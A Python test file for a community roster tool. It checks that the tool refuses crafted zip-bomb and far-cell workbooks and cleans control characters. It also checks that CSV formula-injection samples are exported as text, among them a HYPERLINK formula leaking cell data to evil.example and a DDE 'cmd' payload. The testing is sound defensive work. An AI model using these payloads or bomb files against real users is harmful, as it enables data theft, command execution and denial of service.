"""Text that breaks or attacks the workbooks, and workbooks that attack the
reader: control characters, formulas, far-away cells, zip bombs, superscript
digits; and every Excel writer writing whole or not at all."""

from __future__ import annotations

import csv
import sqlite3
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from gridmap.cli import main
from gridmap.household_lists import care_list, write_care_list
from gridmap.project import Project
from gridmap.workbooks import extent
from gridmap.workbooks.extent import MOST_CELLS, check_workbook
from gridmap.workbooks.household_roster import (
    PUBLIC_HEADER, TEMPLATE_HEADER, ImportHouseholdRoster, preview_roster, read_roster, roster_rows, write_roster,
)
from gridmap.workbooks.project_workbook import write_project_workbook
from gridmap.workbooks.reading import WorkbookError
from gridmap.workbooks.staff_roster import (
    ImportStaffRoster, preview_staff_roster, read_staff_roster, roster_sheets, write_staff_roster,
)
from tests import crafted_workbooks as crafted
from tests.factories import small_project
from tests.faults import fill

ROOT = Path(__file__).resolve().parents[1]

# Read a roster in a child process that may not take more than 4 GiB: before
# the extent check, some of these workbooks abort the process (calamine asks
# for 512 GiB) or take gigabytes; the child's answer is what the user would see.
_READ = """
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))
from gridmap.workbooks.household_roster import read_roster
from gridmap.workbooks.reading import WorkbookError
try:
    table = read_roster(sys.argv[1])
except WorkbookError as error:
    print(error.key, error.params.get("cell", ""), error.params.get("rows", ""), error.params.get("columns", ""))
else:
    print("read", len(table.rows))
"""


def _read_in_child(path: Path) -> str:
    run = subprocess.run([sys.executable, "-c", _READ, str(path)], capture_output=True, text=True, timeout=120,
                         cwd=ROOT, env={"PATH": "/usr/bin:/bin", "OPENBLAS_NUM_THREADS": "1"})
    assert run.returncode == 0, f"the reader died ({run.returncode}): {run.stderr[-800:]}"
    return run.stdout.strip()


def _far_value(path):  # 5 KB: one value at the last cell Excel has
    return crafted.xlsx(path, f'<row r="1">{crafted.HEADER_CELLS}</row><row r="2">{crafted.FIRST_ROW}</row>'
                              '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', dimension="A1:XFD1048576")


def _far_value_hidden(path):  # the same, but <dimension> says A1:B2
    return crafted.xlsx(path, f'<row r="1">{crafted.HEADER_CELLS}</row><row r="2">{crafted.FIRST_ROW}</row>'
                              '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


def _prefixed(path):  # the same with the cells as <x:c>: calamine goes by the local name
    data = (f'<x:row r="1">{crafted.HEADER_CELLS}</x:row>'.replace("<c ", "<x:c ").replace("</c>", "</x:c>")
            + '<x:row r="1048576"><x:c r="XFD1048576"><x:v>1</x:v></x:c></x:row>')
    return crafted.xlsx(path, data.replace("<is>", "<x:is>").replace("</is>", "</x:is>")
                        .replace("<t>", "<x:t>").replace("</t>", "</x:t>"),
                        root="x:worksheet", namespaces=f'xmlns:x="{crafted.MAIN}"')


def _reference_last(path):  # r after another attribute: not the form the quick scan reads
    return crafted.xlsx(path, f'<row r="1">{crafted.HEADER_CELLS}</row>'
                              '<row r="1048576"><c s="0" r="XFD1048576"><v>1</v></c></row>')


def _without_references(path):  # cells without r: a row far down, thirty columns across
    wide = "".join(f'<c t="inlineStr"><is><t>x{i}</t></is></c>' for i in range(30))
    return crafted.xlsx(path, f'<row r="1">{crafted.HEADER_CELLS}</row><row>{wide}</row>'
                              '<row r="1048576"><c><v>1</v></c></row>')


def _shared_strings(path):  # "4 billion different texts": calamine sets 96 GB aside for them
    return crafted.xlsx(path, f'<row r="1">{crafted.HEADER_CELLS}</row>', shared_strings=(
        f'<?xml version="1.0"?><sst xmlns="{crafted.MAIN}" count="1" uniqueCount="4000000000">'
        '<si><t>楼栋</t></si></sst>'))


def _xls_dimensions(path):  # a DIMENSIONS record of 4 billion rows × 65,535 columns
    return crafted.xls(path, crafted.header_labels(), (0, 0xFFFFFFFF, 0, 0xFFFF))


def _xls_wrapping_dimensions(path):  # a last row before the first: calamine's u32 wraps around
    return crafted.xls(path, crafted.header_labels(), (10, 5, 0, 2))


def _xls_far_column(path):  # column 65,536: BIFF holds 16 bits, Excel 256 columns
    return crafted.xls(path, crafted.header_labels() + [crafted.number(65535, 65535, 1.0)])


def _xls_last_cell(path):  # IV65536, the last cell of an .xls: 16.8 million cells, 1.2 GB
    return crafted.xls(path, crafted.header_labels() + [crafted.number(65535, 255, 1.0)], (0, 65536, 0, 256))


def _ods_repeated(path):  # one cell repeated 16,384 times across, its row a million times down
    return crafted.ods(path, crafted.ods_header() + '<table:table-row table:number-rows-repeated="1048574">'
                             + crafted.ods_text("x", 16384) + "</table:table-row>")


def _ods_far(path):  # a million empty rows (as LibreOffice writes), then one value far across
    return crafted.ods(path, crafted.ods_header() + '<table:table-row table:number-rows-repeated="1048572">'
                             '<table:table-cell/></table:table-row><table:table-row>'
                             '<table:table-cell table:number-columns-repeated="16383"/>'
                             + crafted.ods_text("x") + "</table:table-row>")


def _ods_comment(path):  # a comment that reads like the end of a row, then a far value in the same row
    return crafted.ods(path, crafted.ods_header() + '<table:table-row table:number-rows-repeated="1048574">'
                             "<!-- </table:table-row> -->" + crafted.ods_text("x", 16384) + "</table:table-row>")


def _ods_three_sheets(path):  # three sheets of 3 million cells each: .ods sheets are all read on opening
    wide = '<table:table-row table:number-rows-repeated="1048574">' + crafted.ods_text("x", 3) + "</table:table-row>"
    return crafted.ods(path, crafted.ods_header() + wide, wide, wide)


@pytest.mark.parametrize("make, file, answer", [
    (_far_value, "far.xlsx", "too_far XFD1048576 1048576 16384"),
    (_far_value_hidden, "hidden.xlsx", "too_far XFD1048576 1048576 16384"),
    (_prefixed, "prefixed.xlsx", "too_far XFD1048576 1048576 16384"),
    (_reference_last, "attributes.xlsx", "too_far XFD1048576 1048576 16384"),
    (_without_references, "unnumbered.xlsx", "too_far AD1048576 1048576 30"),
    (_shared_strings, "texts.xlsx", "too_many_texts"),
    (_xls_dimensions, "dimensions.xls", "too_far"),
    (_xls_wrapping_dimensions, "wrapping.xls", "too_far"),
    (_xls_far_column, "column.xls", "too_far CRXP65536 65536 65536"),
    (_xls_last_cell, "last.xls", "too_far IV65536 65536 256"),
    (_ods_repeated, "repeated.ods", "too_far XFD1048576 1048576 16384"),
    (_ods_far, "far.ods", "too_far XFD1048575 1048575 16384"),
    (_ods_comment, "comment.ods", "too_far XFD1048576 1048576 16384"),
    (_ods_three_sheets, "three.ods", "too_much"),
])
def test_a_workbook_that_reaches_too_far_is_refused_before_it_is_read(tmp_path, make, file, answer):
    path = make(tmp_path / file)
    assert path.stat().st_size < 70_000  # small files: what they ask for is the attack
    assert _read_in_child(path).startswith(answer)


def test_the_refusal_says_where_the_far_cell_is_and_what_to_do(tmp_path):
    path = _far_value(tmp_path / "far.xlsx")
    with pytest.raises(WorkbookError) as caught:
        read_roster(path)
    text = str(caught.value)
    assert "XFD1048576" in text and "住户" in text and "Ctrl+End" in text and f"{MOST_CELLS:,}" in text


@pytest.mark.parametrize("make", [
    # what Excel, WPS and LibreOffice write for ordinary rosters
    lambda p: crafted.xlsx(p, f'<row r="1">{crafted.HEADER_CELLS}</row><row r="2">{crafted.FIRST_ROW}</row>',
                           dimension="A1:XFD1048576"),
    lambda p: crafted.xlsx(p, f'<row r="1">{crafted.HEADER_CELLS}</row><row r="2">{crafted.FIRST_ROW}</row>'
                              '<row r="1048576" s="1" customFormat="1"><c r="XFD1048576" s="1"/></row>'),
    lambda p: crafted.ods(p, crafted.ods_header() + '<table:table-row table:number-rows-repeated="1048574">'
                             '<table:table-cell table:number-columns-repeated="16384"/></table:table-row>'),
    lambda p: crafted.xls(p, crafted.header_labels()),
], ids=["claimed-dimension", "formatted-empty-cell", "libreoffice-trailing-rows", "xls"])
def test_ordinary_workbooks_with_empty_far_areas_are_read(tmp_path, make):
    table = read_roster(make(tmp_path / "roster.bin"))
    assert [row.values["room"] for row in table.rows] == ["101"]


def test_a_zip_that_unpacks_too_big_is_refused(tmp_path, monkeypatch):
    path = crafted.xlsx(tmp_path / "big.xlsx", f'<row r="1">{crafted.HEADER_CELLS}</row>'
                        + "<!-- padding -->" * 200_000)  # 3 MB unpacked, a few KB packed
    monkeypatch.setattr(extent, "MOST_MEGABYTES", 1)
    with pytest.raises(WorkbookError) as caught:
        read_roster(path)
    assert caught.value.key == "too_big" and caught.value.params["size"] == 3


def test_a_zip_whose_declared_size_lies_is_refused(tmp_path):
    path = crafted.xlsx(tmp_path / "liar.xlsx", f'<row r="1">{crafted.HEADER_CELLS}</row>'
                        + "<!-- padding -->" * 20_000)
    data = bytearray(path.read_bytes())
    name = b"xl/worksheets/sheet1.xml"
    # say the sheet unpacks to 100 bytes, in its local header (size at 22, name at 30)
    # and in the central directory (size at 24, name at 46)
    for signature, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        start = 0
        while (start := data.find(signature, start)) >= 0:
            if data[start + name_at: start + name_at + len(name)] == name:
                data[start + size_at: start + size_at + 4] = (100).to_bytes(4, "little")
            start += 4
    path.write_bytes(bytes(data))
    with zipfile.ZipFile(path) as package:
        assert package.getinfo(name.decode()).file_size == 100
    with pytest.raises(WorkbookError) as caught:
        read_roster(path)
    assert caught.value.key == "unreadable"


def test_an_xls_whose_sectors_loop_is_refused_not_followed_for_ever(tmp_path):
    path = crafted.xls(tmp_path / "loop.xls", crafted.header_labels())
    data = bytearray(path.read_bytes())
    data[512 + 4 * 2: 512 + 4 * 3] = (2).to_bytes(4, "little")  # the FAT: the stream's first sector is its own next
    path.write_bytes(bytes(data))
    with pytest.raises(WorkbookError) as caught:
        read_roster(path)
    assert caught.value.key == "unreadable" and "chain" in str(caught.value)


def test_an_xlsb_is_refused_with_what_to_do(tmp_path):
    path = tmp_path / "binary.xlsx"
    with zipfile.ZipFile(path, "w") as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("xl/workbook.bin", b"\x83\x01\x00")
    with pytest.raises(WorkbookError) as caught:
        read_roster(path)
    assert caught.value.key == "xlsb" and ".xlsx" in caught.value.advice


def test_checking_a_10000_household_roster_is_a_small_part_of_reading_it(demo_file, tmp_path):
    out = tmp_path / "roster.xlsx"
    assert main(["households", str(demo_file), "--export", str(out), "--personal"]) == 0

    def best(work, times=3):
        spent = []
        for _ in range(times):
            start = time.perf_counter()
            work()
            spent.append(time.perf_counter() - start)
        return min(spent)

    checking = best(lambda: check_workbook(out))
    reading = best(lambda: read_roster(out))  # the check and calamine's read, cell by cell into text
    print(f"\n11,506-household roster ({out.stat().st_size:,} bytes): checked in {checking * 1000:.0f} ms, "
          f"read in {reading * 1000:.0f} ms ({checking / reading:.0%})")
    assert len(read_roster(out).rows) == 11_506
    assert checking < reading / 2


# -- text from the project and from rosters ------------------------------------------------------

HOSTILE = {
    "bell": "检查\x07血压",
    "nul": "张\x00三",
    "escape": "王\x1b[31m伟",
    "ffff": "李\uffff娜",
}


@pytest.fixture
def old_project(tmp_path):
    """A small project whose file holds control characters, as an old file or
    another program may have left them (the editing API refuses them now)."""
    project = small_project(tmp_path / "old.gpkg")
    path = project.path
    project.close()
    with sqlite3.connect(path) as conn:
        conn.execute("UPDATE households SET note = ?, tags = '独居' WHERE id = 1", (HOSTILE["bell"],))
        conn.execute("UPDATE residents SET name = ? WHERE id = 1", (HOSTILE["nul"],))
        conn.execute("UPDATE staff SET name = ?, note = ? WHERE id = 1", (HOSTILE["escape"], HOSTILE["ffff"]))
    conn.close()
    return path


def _texts(path: Path) -> list[str]:
    """Every cell of every sheet, as calamine reads it."""
    book = CalamineWorkbook.from_path(str(path))
    return [str(cell) for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python()
            for cell in row]


def test_control_characters_in_the_project_no_longer_break_every_excel_export(old_project, tmp_path):
    outputs = {
        "public.xlsx": ["households", str(old_project), "--export"],
        "personal.xlsx": ["households", str(old_project), "--personal", "--export"],
        "project.xlsx": ["export", str(old_project), "--format", "xlsx", "--out"],
        "internal.xlsx": ["export", str(old_project), "--format", "xlsx", "--mode", "internal", "--out"],
        "staff.xlsx": ["staff", str(old_project), "--export"],
        "coverage.xlsx": ["staff", str(old_project), "--coverage"],
    }
    for name, command in outputs.items():
        assert main([*command, str(tmp_path / name)]) == 0, name
    project = Project.open(old_project, read_only=True)
    try:
        write_care_list(tmp_path / "care.xlsx", "关爱对象", care_list(project, 2))
    finally:
        project.close()
    personal = _texts(tmp_path / "personal.xlsx")
    assert "检查 血压" in personal and "张 三" in personal  # a control character is a space, as the API makes it
    assert "检查 血压" in _texts(tmp_path / "care.xlsx") and "检查 血压" in _texts(tmp_path / "internal.xlsx")
    assert "王 [31m伟" in _texts(tmp_path / "staff.xlsx") and "李 娜" in _texts(tmp_path / "staff.xlsx")
    assert "王 [31m伟" in _texts(tmp_path / "coverage.xlsx")
    for name in [*outputs, "care.xlsx"]:
        load_workbook(tmp_path / name)  # what Excel opens: openpyxl refuses U+FFFF in the XML


def _csv_roster(path: Path, rows: list[list[str]], header=TEMPLATE_HEADER) -> Path:
    with open(path, "w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows([list(header), *rows])
    return path


def _row(room="101", unit="1单元", building="1号楼", occupancy="", tags="", people="", head="", phone="",
         checked="", follow_up="", note=""):
    return ["测试社区", "测试小区", building, unit, room, occupancy, tags, people, head, phone, checked, follow_up,
            note]


def test_control_characters_in_a_roster_are_cleaned_as_they_come_in(project, tmp_path):
    path = _csv_roster(tmp_path / "roster.csv", [_row(note="需要\x07上门\x00", head="\x1b李四\x7f"),
                                                 _row(room="102", note="第一行\r\n第二行\x85")])
    preview = preview_roster(project, read_roster(path))
    assert [r.status for r in preview.rows] == ["update", "update"]
    assert project.undo_stack.push(ImportHouseholdRoster(preview.table))
    households = project.tables["households"]
    assert households[1].note == "需要 上门" and households[2].note == "第一行\n第二行"
    head = next(r for r in project.tables["residents"].values() if r.household_id == 1)
    assert head.name == "李四"
    write_roster(tmp_path / "out.xlsx", roster_rows(project, personal=True), personal=True)
    assert "需要 上门" in _texts(tmp_path / "out.xlsx")


FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"点击查看")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(1+1)", "=1+1"]


def test_formulas_from_a_csv_roster_come_back_as_text_in_every_export(project, tmp_path):
    rows = [_row(room=room, note=formula, tags="独居") for room, formula in zip(
        ("101", "102", "201", "202", "301", "302"), FORMULAS)]
    rows[0][8] = "=HYPERLINK(\"http://evil.example\",\"户主\")"
    preview = preview_roster(project, read_roster(_csv_roster(tmp_path / "roster.csv", rows)))
    assert project.undo_stack.push(ImportHouseholdRoster(preview.table))
    assert {h.note for h in project.tables["households"].values()} >= set(FORMULAS)
    posts, links = roster_sheets(project)
    posts[0][0], posts[0][-1] = "=1+2", "@cmd"  # a staff member and a note written as formulas
    outputs = {
        "roster.xlsx": lambda p: write_roster(p, roster_rows(project, personal=True), personal=True),
        "internal.xlsx": lambda p: write_project_workbook(project, p, "internal"),
        "care.xlsx": lambda p: write_care_list(p, "关爱对象", care_list(project, 2)),
        "staff.xlsx": lambda p: write_staff_roster(p, posts, links),
    }
    for name, write in outputs.items():
        write(tmp_path / name)
        book = load_workbook(tmp_path / name)
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], name  # no live formula anywhere
        risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
        assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky), name
        texts = _texts(tmp_path / name)  # and the readers give the text back as it was
        expected = ["=1+2", "@cmd"] if name == "staff.xlsx" else FORMULAS
        assert set(expected) <= set(texts), name
    again = preview_roster(project, read_roster(tmp_path / "roster.xlsx"))
    assert {r.status for r in again.rows} == {"unchanged"}  # the round trip keeps every formula as text


def test_an_underscore_escape_is_written_so_that_it_reads_back(project, tmp_path):
    path = _csv_roster(tmp_path / "roster.csv", [_row(note="编号_x0041_不是A")])
    assert project.undo_stack.push(ImportHouseholdRoster(read_roster(path)))
    write_roster(tmp_path / "out.xlsx", roster_rows(project, personal=True), personal=True)
    assert "编号_x0041_不是A" in _texts(tmp_path / "out.xlsx")


def test_superscript_and_full_width_digits_are_read_as_numbers(project, tmp_path):
    rows = [_row(building="１号楼", unit="¹单元", room="１⁰¹", people="²", phone="１３９ １２３４ ５６７８",
                 checked="２０２６-１１-０３", occupancy="租户"),
            _row(unit="²", room="²⁰²", people="③")]
    preview = preview_roster(project, read_roster(_csv_roster(tmp_path / "roster.csv", rows)))
    assert [(r.status, r.address) for r in preview.rows] == [("update", "测试小区 1号楼 1单元 101"),
                                                              ("update", "测试小区 1号楼 2单元 202")]
    assert project.undo_stack.push(ImportHouseholdRoster(preview.table))
    first = project.tables["households"][1]
    assert (first.people, first.occupancy, first.last_checked.isoformat()) == (2, "租户", "2026-11-03")
    assert next(r for r in project.tables["residents"].values() if r.household_id == 1).phone == "13912345678"
    assert next(h for h in project.tables["households"].values() if h.room == "202" and h.unit_id == 2).people == 3


def test_a_unit_in_superscript_digits_on_the_staff_roster_is_unit_2(project, tmp_path):
    path = tmp_path / "staff.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([["姓名", "联系电话", "职责", "小区", "楼栋", "单元"],
                                      ["赵敏", "１３７ ００００ ０００３", "单元长", "测试小区", "１号楼", "²"]])
    posts, links = read_staff_roster(path)
    preview = preview_staff_roster(project, posts, links)
    assert [r.status for r in preview.rows] == ["new"]
    assert project.undo_stack.push(ImportStaffRoster(posts, links))
    person = next(s for s in project.tables["staff"].values() if s.name == "赵敏")
    assert person.phone == "13700000003"
    post = next(a for a in project.tables["assignments"].values() if a.staff_id == person.id)
    assert (post.target_kind, project.tables["units"][post.target_id].number) == ("unit", 2)


def test_a_note_longer_than_a_note_may_be_is_refused_with_the_reason(project, tmp_path):
    path = _csv_roster(tmp_path / "roster.csv", [_row(note="长" * 10_001), _row(room="102", head="名" * 501)])
    preview = preview_roster(project, read_roster(path))
    assert [r.status for r in preview.rows] == ["error", "error"]
    assert preview.rows[0].issues[0].text() == "the note is 10,001 characters long; a note may have 10,000"
    assert preview.rows[1].issues[0].text() == "the name is 501 characters long; a name may have 500"


def test_an_unclosed_quote_in_a_csv_is_a_message_not_a_traceback(tmp_path):
    path = tmp_path / "roster.csv"
    path.write_text("楼栋,房号,备注\n1号楼,101,\"" + "x" * 200_000 + "\n", encoding="utf-8")
    with pytest.raises(WorkbookError) as caught:
        read_roster(path)
    assert caught.value.key == "csv_cell" and caught.value.params["line"] >= 1


# -- writing whole or not at all ------------------------------------------------------------------

EXPORTS = [
    ["households", "{project}", "--export", "{out}"],
    ["households", "{project}", "--export", "{out}", "--personal"],
    ["households", "{project}", "--template", "{out}"],
    ["staff", "{project}", "--export", "{out}"],
    ["staff", "{project}", "--coverage", "{out}"],
    ["export", "{project}", "--format", "xlsx", "--out", "{out}"],
]


@pytest.mark.parametrize("command", EXPORTS, ids=lambda c: " ".join(c[2:3] + c[3:4]))
def test_an_export_onto_the_project_is_refused_and_the_project_kept(tmp_path, capsys, command):
    project = small_project(tmp_path / "p.gpkg")
    project.close()
    before = (tmp_path / "p.gpkg").read_bytes()
    argv = [a.format(project=tmp_path / "p.gpkg", out=tmp_path / "p.gpkg") for a in command]
    assert main(argv) == 1
    assert "gridmap project" in capsys.readouterr().err
    assert (tmp_path / "p.gpkg").read_bytes() == before


@pytest.mark.parametrize("command", EXPORTS, ids=lambda c: " ".join(c[2:3] + c[3:4]))
def test_a_full_disk_leaves_the_earlier_file_as_it_was(tmp_path, small_disk, command):
    small_project(tmp_path / "p.gpkg").close()
    out = small_disk / "out.xlsx"
    out.write_bytes(b"the earlier export")
    fill(small_disk, 0)
    # a child process: a zip left open by a failed save would print a traceback when collected
    done = subprocess.run([sys.executable, "-m", "gridmap", *(a.format(project=tmp_path / "p.gpkg", out=out)
                                                                for a in command)],
                          capture_output=True, text=True, timeout=300, cwd=ROOT)
    assert done.returncode == 1 and "disk is full" in done.stderr and "Traceback" not in done.stderr, done.stderr
    assert out.read_bytes() == b"the earlier export"
    assert sorted(p.name for p in small_disk.iterdir()) == ["filler", "out.xlsx"]  # no part left behind


@pytest.mark.parametrize("command", EXPORTS, ids=lambda c: " ".join(c[2:3] + c[3:4]))
def test_a_read_only_folder_is_named_with_what_to_do(tmp_path, capsys, immutable, command):
    small_project(tmp_path / "p.gpkg").close()
    folder = tmp_path / "locked"
    folder.mkdir()
    (folder / "out.xlsx").write_bytes(b"the earlier export")
    immutable(folder)
    assert main([a.format(project=tmp_path / "p.gpkg", out=folder / "out.xlsx") for a in command]) == 1
    assert "read-only" in capsys.readouterr().err
    assert [p.name for p in folder.iterdir()] == ["out.xlsx"] and (folder / "out.xlsx").read_bytes() == \
        b"the earlier export"


# -- the window's dialogs -------------------------------------------------------------------------


def test_the_windows_workbook_exports_refuse_the_project_with_a_message(window, monkeypatch):
    from PySide6.QtWidgets import QMessageBox

    from gridmap.outputs import OutputError
    from ui.output_problems import output_problem_text

    shown = []
    monkeypatch.setattr(QMessageBox, "warning", lambda *args: shown.append(args[1:3]))
    target = str(window.project.path)
    before = Path(target).read_bytes()
    xinhua = next(z.id for z in window.project.tables["zones"].values() if z.name == "新华街社区")
    window.stats.show_zone(xinhua)
    actions = window.household_roster_actions
    results = [actions.export_roster(target), actions.save_template(target), window.staff_actions.export_roster(target),
               window.staff_actions.export_coverage(target), window.stats.export_care_list(target)]
    assert results == [None] * 5
    expected = output_problem_text(OutputError(target, "", kind="project"))
    assert [text for _title, text in shown] == [expected] * 5
    assert Path(target).read_bytes() == before


def test_a_full_disk_in_the_window_leaves_the_earlier_file_with_a_message(window, small_disk, monkeypatch):
    from PySide6.QtWidgets import QMessageBox

    shown = []
    monkeypatch.setattr(QMessageBox, "warning", lambda *args: shown.append(args[1:3]))
    out = small_disk / "roster.xlsx"
    out.write_bytes(b"the earlier export")
    fill(small_disk, 0)
    assert window.household_roster_actions.export_roster(str(out)) is None
    assert window.stats.export_care_list(str(out)) is None
    assert window.staff_actions.export_roster(str(out)) is None
    assert len(shown) == 3 and all(text.startswith(str(out)) for _title, text in shown)
    assert out.read_bytes() == b"the earlier export"
    assert sorted(p.name for p in small_disk.iterdir()) == ["filler", "roster.xlsx"]


def test_the_windows_roster_export_is_the_public_roster(window, tmp_path):
    written = window.household_roster_actions.export_roster(str(tmp_path / "roster.xlsx"))
    header = CalamineWorkbook.from_path(str(written)).get_sheet_by_name("住户花名册").to_python()[1]  # under its notice
    assert tuple(header) == PUBLIC_HEADER
